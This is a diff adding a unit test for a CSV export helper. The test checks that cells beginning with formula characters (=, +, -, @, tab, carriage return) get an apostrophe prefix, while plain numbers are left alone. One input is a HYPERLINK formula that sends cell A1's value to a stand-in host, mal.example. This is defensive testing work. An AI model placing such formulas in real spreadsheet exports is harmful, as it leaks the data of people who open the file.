@@ -11,6 +11,20 @@ describe('csv', () => {
     expect(csvCell(0)).toBe('0');
   });
 
+  it('neutralises cells a spreadsheet would run as formulas, keeping plain numbers', () => {
+    expect(csvCell('=HYPERLINK("https://mal.example/?x="&A1;"Clique")')).toBe(
+      `"'=HYPERLINK(""https://mal.example/?x=""&A1;""Clique"")"`,
+    );
+    expect(csvCell('+258 84 000 0000')).toBe("'+258 84 000 0000");
+    expect(csvCell('-1+1')).toBe("'-1+1");
+    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvCell('\t=1')).toBe("'\t=1");
+    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
+    expect(csvCell('Ana =1')).toBe('Ana =1');
+    expect(csvCell('-15,00')).toBe('-15,00');
+    expect(csvCell(-3)).toBe('-3');
+  });
+
   it('joins rows with CRLF and cells with semicolons', () => {
     expect(toCsv(['A', 'B'], [['1', 'x;y'], [2, null]])).toBe('A;B\r\n1;"x;y"\r\n2;\r\n');
   });
